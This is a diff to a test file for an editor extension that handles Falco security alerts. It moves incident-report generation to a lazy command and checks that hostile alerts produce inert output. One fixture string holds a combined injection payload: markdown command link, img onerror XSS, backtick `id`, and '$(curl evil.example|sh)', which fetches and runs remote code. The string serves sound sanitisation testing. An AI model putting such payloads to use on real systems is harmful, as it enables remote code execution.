@@ -4,7 +4,7 @@ import * as fs from 'node:fs';
 import { parseDocument } from 'yaml';
 import { TextDocument } from 'vscode-languageserver-textdocument';
 import { DiagnosticSeverity, type CodeAction, type TextDocumentEdit, type WorkspaceEdit } from 'vscode-languageserver-types';
-import { createAlertsService } from '../../server/src/service/alerts';
+import { GENERATE_REPORT_COMMAND, createAlertsService } from '../../server/src/service/alerts';
 import { createRulesService } from '../../server/src/service/rules';
 import { planException, isSafeExceptionValue, type ExceptionProposal, EXCEPTION_SHAPES } from '../../server/src/service/alerts/tuning';
 import { COPY_TO_CLIPBOARD_COMMAND, SHOW_MARKDOWN_COMMAND } from '../../server/src/protocol';
@@ -105,11 +105,16 @@ test('"Disable rule" is offered as the last resort, once; playbook, investigatio
     assert.equal(copy.command!.command, COPY_TO_CLIPBOARD_COMMAND);
     assert.equal(copy.command!.arguments![1], 'investigation command');
   }
+  // The report is built when its command runs (the client sends REPORT_REQUEST with these arguments), not per request.
   const report = actions.find((a) => a.title === 'Generate incident report for this alert')!;
-  assert.equal(report.command!.command, SHOW_MARKDOWN_COMMAND);
-  assert.match(String(report.command!.arguments![0]), /^# Falco incident report/);
+  assert.equal(report.command!.command, GENERATE_REPORT_COMMAND);
+  const [uri, start, end] = report.command!.arguments as [string, number, number];
+  assert.deepEqual([uri, start, end], [alertDoc('a.json', json).uri, 0, 0]);
+  assert.match(s.report(json, uri, { start, end }), /^# Falco incident report\n\n1 alert from/);
   const selection = s.codeActions!(alertDoc('a.json', json), { start: { line: 0, character: 0 }, end: { line: 2, character: 5 } }, { diagnostics: [] });
-  assert.ok(selection.some((a) => a.title === 'Generate incident report for the 3 selected alerts'));
+  const three = selection.find((a) => a.title === 'Generate incident report for the 3 selected alerts')!;
+  assert.deepEqual(three.command!.arguments, [alertDoc('a.json', json).uri, 0, 2]);
+  assert.match(s.report(json, uri, { start: 0, end: 2 }), /^# Falco incident report\n\n3 alerts from/);
 });
 
 test('a hostile alert gives inert, one-line code-action titles and single-quoted shell commands', () => {
@@ -122,6 +127,10 @@ test('a hostile alert gives inert, one-line code-action titles and single-quoted
     for (const a of actions) {
       assert.ok(!/[\r\n]/.test(a.title) && !a.title.includes('$(') && a.title.length <= 160, a.title);
       if (a.command?.command === SHOW_MARKDOWN_COMMAND) assert.deepEqual(hostileProblems(String(a.command.arguments![0])), []);
+      if (a.command?.command === GENERATE_REPORT_COMMAND) {
+        const [uri, start, end] = a.command.arguments as [string, number, number];
+        assert.deepEqual(hostileProblems(s.report(text, uri, { start, end })), []);
+      }
       if (a.command?.command === COPY_TO_CLIPBOARD_COMMAND) {
         const script = String(a.command.arguments![0]);
         assert.ok(!script.includes('$(curl') || script.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), script);
